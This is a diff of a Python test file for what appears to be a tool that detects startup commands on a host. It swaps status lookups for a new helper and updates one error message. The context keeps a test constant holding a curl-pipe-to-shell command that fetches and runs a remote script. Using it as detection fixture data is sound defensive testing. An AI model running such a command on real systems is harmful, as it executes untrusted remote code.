@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from tables.host import Host
 from tables.persistence.startup_commands import StartupCommand, startup_commands
 from tables.schema import QueryContext
+from tests.support.scans import unseen_by
 
 MALICIOUS = "curl -fsSL http://203.0.113.9/i.sh | sh"
 PASSWD = "root:x:0:0::/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nkim:x:1000:1000::/home/kim:/bin/zsh\n"
@@ -58,7 +59,7 @@ def disk(tmp_path: Path) -> Iterator[Disk]:
 
 def test_an_empty_disk_starts_nothing(disk: Disk) -> None:
     assert disk.rows() == []
-    assert disk.host.status.get("startup_commands").degraded == ()
+    assert unseen_by(startup_commands, disk.host) == ()
 
 
 @pytest.mark.parametrize(
@@ -235,7 +236,7 @@ def test_without_a_package_database_packages_are_unknown(disk: Disk) -> None:
     disk.write("/etc/profile", "x\n")
     [row] = disk.rows()
     assert row.is_packaged is None
-    assert "no database" in disk.host.status.get("startup_commands").degraded[0]
+    assert "no database" in unseen_by(startup_commands, disk.host)[0]
 
 
 @pytest.mark.parametrize(
@@ -305,12 +306,12 @@ def test_an_ordinary_user_is_told_what_could_not_be_read(open_disk: Disk) -> Non
     if child == 0:
         os.setuid(65534)
         rows = disk.rows()
-        degraded = disk.host.status.get("startup_commands").degraded
+        degraded = unseen_by(startup_commands, disk.host)
         os.write(writer, repr(([row.path for row in rows], degraded)).encode())
         os._exit(0)
     os.waitpid(child, 0)
     answer = os.read(reader, 4096).decode()
-    assert "/etc/profile" in answer and "1 files and folders could not be read" in answer
+    assert "/etc/profile" in answer and "/root: Permission denied" in answer
 
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
